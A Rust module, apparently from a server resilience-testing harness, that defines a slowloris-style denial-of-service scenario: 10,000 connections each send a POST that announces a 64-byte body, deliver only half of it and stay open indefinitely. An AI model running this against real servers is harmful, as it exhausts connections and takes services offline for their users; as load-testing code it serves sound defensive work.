//! Requests that never end: they fill the table of connections.

use crate::attack::Attacker;
use crate::crowd::{Crowd, FAST, FOREVER};
use crate::database::Database;
use crate::support::outcome::Outcome;

const CONNECTIONS: usize = 10_000;

const OPENED_PER_SECOND: f64 = 5_000.0;

/// The body is announced with 64 bytes, and 32 are sent.
const LENGTH: usize = 64;

pub(super) fn prepare(_: &mut Database) -> Outcome<Vec<Attacker>> {
    let head = "POST /api/v1/sessions HTTP/1.1\r\nHost: safespace\r\nContent-Type: application/json";
    let request = format!("{head}\r\nContent-Length: {LENGTH}\r\n\r\n{}", " ".repeat(LENGTH / 2));
    let crowd = Crowd {
        connections: CONNECTIONS,
        opened_per_second: OPENED_PER_SECOND,
        bytes_read_per_second: FAST,
        leaves_after: FOREVER,
    };
    Ok(vec![crowd.attacker(move || Some(request.clone()))])
}
